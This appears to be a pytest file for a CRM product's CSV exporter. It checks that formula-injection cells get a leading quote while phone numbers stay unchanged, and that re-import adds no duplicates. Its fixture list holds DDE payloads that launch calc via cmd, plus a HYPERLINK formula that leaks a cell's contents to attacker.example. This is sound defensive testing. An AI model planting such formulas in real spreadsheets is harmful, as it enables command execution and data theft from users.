"""Formula injection: every CSV the product writes escapes cells a spreadsheet would run
(OWASP: a single quote before ``=``, ``+``, ``-``, ``@``, tab, CR), phone numbers aside."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import func, select

from workstation.importer.exporter import run_export
from workstation.importer.importer import count_leads, run_import
from workstation.safecsv import SafeDictWriter, SafeWriter, escape_cell, unescape_cell
from workstation.store.models import Call, Contact, Email, Lead, Phone, User

DDE = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", DDE)
def test_payloads_get_a_quote_and_come_back(payload):
    assert escape_cell(payload) == "'" + payload
    assert unescape_cell(escape_cell(payload)) == payload


@pytest.mark.parametrize("value", ["+380671234567", "+380671234567,+380501112233",
                                   "+380671234567, +48512345678", "Acme", "", "'quoted",
                                   "a=b", 42, -5, 1.5, None])
def test_phones_plain_text_and_numbers_stay(value):
    assert escape_cell(value) == value


@pytest.mark.parametrize("value", ["+1+1", "+380671234567+1", "+380671234567,=1+1",
                                   "-380671234567", "+38 (067) 123-45-67"])
def test_almost_phones_are_escaped(value):
    assert escape_cell(value) == "'" + value


def test_writers_escape_every_row():
    buf = io.StringIO()
    w = SafeWriter(buf)
    w.writerow(["=1+1", "+380671234567"])
    w.writerows([["@x", 3]])
    d = SafeDictWriter(buf, fieldnames=["a", "b"])
    d.writerow({"a": "-1", "b": "ok"})
    d.writerows([{"a": "+1+1", "b": "\t=2"}])
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [
        ["'=1+1", "+380671234567"], ["'@x", "3"], ["'-1", "ok"], ["'+1+1", "'\t=2"]]


def _poisoned_lead(store):
    with store.session() as s, s.begin():
        lead = Lead(company=DDE[0], address=DDE[2], category=DDE[3], notes=DDE[4])
        s.add(lead)
        s.flush()
        s.add_all([Phone(lead_id=lead.id, raw="067 123 45 67", e164="+380671234567"),
                   Contact(lead_id=lead.id, full_name=DDE[1]),
                   Email(lead_id=lead.id, address="-x@example.com")])
        return lead.id


def test_export_escapes_and_reimport_adds_nothing(store, tmp_path):
    lead_id = _poisoned_lead(store)
    out = tmp_path / "export.csv"
    run_export(store, out)
    with open(out, encoding="utf-8-sig", newline="") as f:
        header, row = list(csv.reader(f))
    cells = dict(zip(header, row))
    assert cells["Company"] == "'" + DDE[0]
    assert cells["Address"] == "'" + DDE[2]
    assert cells["Category"] == "'" + DDE[3]
    assert cells["Client history"].startswith("'=HYPERLINK(")
    assert cells["Contact person"] == "'" + DDE[1]
    assert cells["E-mail"] == "'-x@example.com"
    assert cells["Current phone"] == "+380671234567"  # a phone written as such stays
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row
                   if c != "+380671234567")

    again = run_import(store, out)
    assert (again.inserted, again.rejected, again.merged) == (0, 0, 1)
    assert count_leads(store) == 1
    with store.session() as s:
        lead = s.get(Lead, lead_id)
        assert lead.company == DDE[0]
        assert [c.full_name for c in lead.contacts] == [DDE[1]]  # not a second, quoted one
        assert s.scalar(select(func.count()).select_from(Email)) == 1


def test_rejects_file_escapes_the_cells(store, tmp_path):
    base = tmp_path / "base.csv"
    with open(base, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["Company", "Phone"], [DDE[0], ""], ["Fine", "+380671234567"]])
    result = run_import(store, base)
    with open(result.rejects_path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[1] == ["2", "no phone number", "'" + DDE[0], ""]


def test_calls_csv_escapes(cli, store):
    from datetime import datetime, timezone

    now = datetime.now(timezone.utc)
    with store.session() as s, s.begin():
        u = User(login="@admin", full_name="x")
        lead = Lead(company=DDE[4])
        s.add_all([u, lead])
        s.flush()
        s.add(Call(user_id=u.id, lead_id=lead.id, direction="in", remote_number=DDE[0],
                   started_at=now, outcome="no_answer"))
        s.add(Call(user_id=u.id, direction="out", remote_number="0671234567",
                   remote_e164="+380671234567", started_at=now, outcome="busy"))
    code, out, err = cli("calls", "--format", "csv")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    numbers = sorted(r["remote_number"] for r in rows)
    assert numbers == ["'" + DDE[0], "+380671234567"]
    assert {r["company"] for r in rows} == {"'" + DDE[4], ""}
    assert {r["manager"] for r in rows} == {"'@admin"}
